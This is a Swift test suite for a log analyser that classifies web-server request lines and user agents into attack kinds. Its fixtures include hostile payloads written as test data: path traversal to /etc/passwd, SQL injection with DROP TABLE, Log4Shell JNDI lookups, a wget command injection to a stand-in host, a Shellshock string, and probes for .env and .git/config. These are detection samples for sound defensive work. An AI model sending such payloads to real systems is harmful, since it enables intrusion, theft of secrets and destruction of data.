import Testing

@testable import Seen

/// What requests are taken for.
@Suite struct RequestKindTests {
  /// The kind of a request line, answered with a status, behind the words of a browser or others.
  static func kind(
    _ request: String, _ status: Int = 404, agent: String = "Mozilla/5.0 (X11; Linux x86_64)", user: String = "-"
  )
    -> RequestKind?
  {
    event(
      "203.0.113.7 - \(user) [23/Nov/2026:16:26:00 +0000] \"\(request)\" \(status) 612 \"-\" \"\(agent)\"")?.request
  }

  static let requests: [(String, RequestKind)] = [
    ("GET / HTTP/1.1", .ordinary),
    ("GET /some/page-that-is-gone HTTP/1.1", .ordinary),
    ("GET /search?q=select+a+shirt HTTP/1.1", .ordinary),
    ("GET /api/orders?$filter=Kind%20eq%20%27JE%27%20and%20Ref%20eq%20%27A%27 HTTP/1.1", .ordinary),
    ("GET /telescopes/shell-cordovan-shoes HTTP/1.1", .ordinary),
    ("GET /robots.txt HTTP/1.1", .wellKnown),
    ("GET /.well-known/acme-challenge/x HTTP/1.1", .wellKnown),
    ("GET http://www.example.com/ HTTP/1.1", .absoluteURL),
    ("CONNECT example.com:443 HTTP/1.1", .connect),
    ("GET /wp-content/plugins/x/readme.txt HTTP/1.1", .wordpress),
    ("GET /blog/wp-login.php HTTP/1.1", .wordpress),
    ("GET /phpMyAdmin/index.php HTTP/1.1", .databaseFrontEnd),
    ("GET /manager/html HTTP/1.1", .administration),
    ("GET /nothing.php HTTP/1.1", .script),
    ("GET /backup.tar.gz HTTP/1.1", .backup),
    ("GET /cgi-bin/test HTTP/1.1", .cgi),
    ("GET /.env HTTP/1.1", .secretFile),
    ("GET /app/.git/config HTTP/1.1", .secretFile),
    ("GET /..%2f..%2fetc%2fpasswd HTTP/1.1", .traversal),
    ("GET /%2e%2e/%2e%2e/x HTTP/1.1", .traversal),
    ("GET /%252E%252E%252Fx HTTP/1.1", .traversal),
    ("GET /static?file=/etc/passwd HTTP/1.1", .traversal),
    ("GET /c:/win.ini HTTP/1.1", .traversal),
    ("GET /item?id=1%27%20or%20%271%27=%271 HTTP/1.1", .sqlInjection),
    ("GET /item?id=1'+and+1=1 HTTP/1.1", .sqlInjection),
    ("GET /item?id='); DROP TABLE users; -- HTTP/1.1", .sqlInjection),
    ("GET /item?id=1;delete+from+users HTTP/1.1", .sqlInjection),
    ("GET /shop?q=drop+leaf+table HTTP/1.1", .ordinary),
    ("GET /item?id=1%20UNION%20ALL%20SELECT%20a%20FROM%20b HTTP/1.1", .sqlInjection),
    ("GET /item?id=1;sleep(5) HTTP/1.1", .sqlInjection),
    ("GET /x?a=<script>1</script> HTTP/1.1", .crossSiteScripting),
    ("GET /x?a=%3Cimg HTTP/1.1", .crossSiteScripting),
    ("GET /x?a=javascript:x HTTP/1.1", .crossSiteScripting),
    ("GET /x?a=alert%28 HTTP/1.1", .crossSiteScripting),
    ("GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1", .log4shell),
    ("GET /?x=%24%7Bjndi%3Aldap HTTP/1.1", .log4shell),
    ("GET /?cmd=;wget+http://192.0.2.1/x HTTP/1.1", .commandInjection),
    ("GET /scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir HTTP/1.1", .commandInjection),
    ("GET /?c=<?php+phpinfo();?> HTTP/1.1", .commandInjection),
    ("POST /GponForm/diag_Form?images/ HTTP/1.1", .router),
    ("GET /boaform/admin/formLogin HTTP/1.1", .router),
    ("GET /HNAP1/ HTTP/1.1", .router),
    ("GET /c99.php HTTP/1.1", .webShell),
    ("GET /Some_Linux_Shell.php HTTP/1.1", .webShell),
    ("GET /vendor/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", .application),
    ("GET /a/?class.module.classLoader.URLs%5B0%5D=0 HTTP/1.1", .application),
    ("GET /s/x/_/;/WEB-INF/web.xml HTTP/1.1", .application),
    ("GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1", .scanner),
    ("PROPFIND / HTTP/1.1", .unusualMethod),
    ("\\x16\\x03\\x01\\x02\\x00\\x01", .tls),
    ("\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr", .remoteDesktop),
    ("SSH-2.0-Go", .ssh),
    ("hello", .noHTTP),
    ("-", .nothing),
    ("GET /?8890121518 HTTP/1.1", .cacheBuster),
    ("GET /style.css?1548212345 HTTP/1.1", .ordinary),
  ]

  @Test(arguments: requests) func `a request shows what it is after`(_ request: String, _ expected: RequestKind) {
    #expect(Self.kind(request) == expected, "\(request)")
  }

  static let answered: [(String, Int, RequestKind)] = [
    ("GET /wp-content/themes/x.css HTTP/1.1", 200, .ordinary), ("GET /admin HTTP/1.1", 200, .ordinary),
    ("GET /index.php HTTP/1.1", 302, .ordinary), ("GET /.env HTTP/1.1", 200, .secretFile),
    ("POST /wp-login.php HTTP/1.1", 200, .login), ("POST /xmlrpc.php HTTP/1.1", 200, .login),
    ("POST /user/login HTTP/1.1", 403, .login), ("POST /api/items HTTP/1.1", 401, .login),
    ("POST /wp-login.php HTTP/1.1", 404, .wordpress), ("GET /private HTTP/1.1", 401, .ordinary),
    ("PROPFIND /dav/ HTTP/1.1", 207, .ordinary),
  ]

  @Test(arguments: answered)
  func `what ordinary sites have too tells only where it was not found`(
    _ request: String, _ status: Int, _ expected: RequestKind
  ) {
    #expect(Self.kind(request, status) == expected, "\(request) \(status)")
  }

  static let agents: [(String, RequestKind)] = [
    ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", .census),
    ("Mozilla/5.0 zgrab/0.x", .scanner), ("sqlmap/1.8#stable (https://sqlmap.org)", .scanner),
    ("curl/8.5.0", .ordinary), ("() { :; }; /bin/bash -c 'id'", .shellshock),
    ("${jndi:ldap://192.0.2.1/x}", .log4shell),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", .ordinary),
  ]

  @Test(arguments: agents) func `a client's own words tell`(_ agent: String, _ expected: RequestKind) {
    #expect(Self.kind("GET /page HTTP/1.1", 200, agent: agent) == expected, "\(agent)")
  }

  @Test func `refused credentials are a login`() {
    #expect(Self.kind("GET /private HTTP/1.1", 401, user: "alice") == .login)
  }

  @Test func `paths are told apart without their query, in either case, with and without escapes`() throws {
    func numbers(_ request: String) -> (UInt32, UInt32)? {
      event("203.0.113.7 - - [23/Nov/2026:16:26:00 +0000] \"GET \(request) HTTP/1.1\" 200 1")?.numbers
    }
    let one = try #require(numbers("/a/b?x=1")), other = try #require(numbers("/A/%62?x=2"))
    #expect(one.0 == other.0)
    #expect(one.1 != other.1)
    #expect(try #require(numbers("/a/c")).0 != one.0)
  }

  @Test func `any bytes are some kind`() {
    var random = SplitMix64(seed: 9)
    for _ in 0..<2000 {
      let request = (0..<Int(random.next() % 60)).map { _ in UInt8(truncatingIfNeeded: random.next() % 96 + 32) }
      let line =
        "203.0.113.7 - - [23/Nov/2026:16:26:00 +0000] \"" + String(decoding: request, as: UTF8.self) + "\" 404 1"
      _ = event(line)?.request
    }
  }
}
